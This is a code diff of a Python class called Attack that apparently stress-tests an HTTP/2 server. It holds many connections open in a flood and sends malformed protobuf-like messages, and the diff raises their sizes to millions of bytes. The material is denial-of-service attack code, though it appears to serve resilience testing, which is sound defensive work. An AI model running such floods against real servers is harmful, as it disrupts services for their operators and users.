@@ -263,8 +263,8 @@ class Attack:
         while self.going():
             c = self.connect()
             c.open(1)
-            c.send(http2.data_frames(1, http2.message(_hello("flood-%d" % (len(held) % agents)))))
-            c.send(http2.data_frames(1, http2.message(payload)))
+            hello = http2.message(_hello("flood-%d" % (len(held) % agents)))
+            c.send_data(1, hello + http2.message(payload), timeout_s=1)
             held.append(c)
             c.closed.wait(0.2)
         self.seen["statuses"] = self.statuses()
@@ -280,14 +280,14 @@ class Attack:
         self._messages(payload)
 
     def unknown_fields(self):
-        self._messages(b"\xf8\x06\x01" * 20_000)
+        self._messages(b"\xf8\x06\x01" * 1_300_000)
 
     def empty_series(self):
         """A layout of empty series: two bytes here, an object there."""
-        self._messages(_bytes(3, b"\x22\x00" * 30_000))
+        self._messages(_bytes(3, b"\x22\x00" * 1_900_000))
 
     def long_strings(self):
-        series = _bytes(4, _bytes(1, _bytes(1, b"m" * 60_000)))
+        series = _bytes(4, _bytes(1, _bytes(1, b"m" * 3_900_000)))
         self._messages(_bytes(3, _bytes(2, _bytes(1, b"j")) + series))
 
     # The HTTP port.
@@ -315,6 +315,7 @@ class Attack:
                         answer = s.recv(100).split(b"\r\n")[0].decode()
                     except OSError:
                         answer = "closed"
+                    answer = head.split(" ")[0] + " " + answer
                     answers[answer] = answers.get(answer, 0) + 1
         self.seen["answers"] = answers
 
